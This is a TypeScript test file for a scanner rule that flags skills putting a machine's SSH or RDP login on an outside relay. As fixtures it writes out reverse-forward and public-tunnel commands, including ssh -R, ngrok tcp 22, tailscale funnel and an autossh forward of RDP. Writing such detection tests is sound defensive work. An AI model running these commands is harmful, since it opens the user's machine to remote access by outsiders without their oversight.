/**
 * This machine's remote login (SSH, RDP, VNC) put on a relay others reach — a reverse forward to an
 * outside host, a public tunnel of the port — is a question for a human (EFFECT-PRIV-002); forwards of a
 * web server or to the user's own network are not judged (docs/skill-effect-model.md).
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { fence, honest, report, skill } from '../support/skill-verdict-asserts.js';

const t = suite("this machine's remote login put on a relay");
const bash = (code: string) => fence('bash', code);

t('ssh -R of port 22 to an outside host, tailscale funnel 22, ngrok tcp 22, cloudflared ssh://', () => {
  for (const code of ['ssh -R 0.0.0.0:2222:localhost:22 tunnel@relay.example -N -f', 'tailscale funnel --bg 22', 'ngrok tcp 22', 'cloudflared tunnel --url ssh://localhost:22', 'autossh -M 0 -f -N -R 3390:localhost:3389 support@rdp-relay.example']) {
    const r = report(skill(bash(code)));
    assert.ok(r.findings.some((f) => f.ruleId === 'EFFECT-PRIV-002'), `${code}: ${r.findings.map((f) => f.ruleId).join(', ')}`);
  }
});

t("a dev server forwarded, a local forward, the user's own network: approved", () => {
  honest(skill(bash('ssh -R 8080:localhost:3000 dev@my-vps.example -N\nssh -L 5432:db.internal:5432 bastion.example\nngrok http 3000')), 'web ports and a local forward');
  honest(skill(bash('ssh -R 2222:localhost:22 pi@homeserver.local -N')), 'a reverse forward to a host of the home network');
});

t.run();
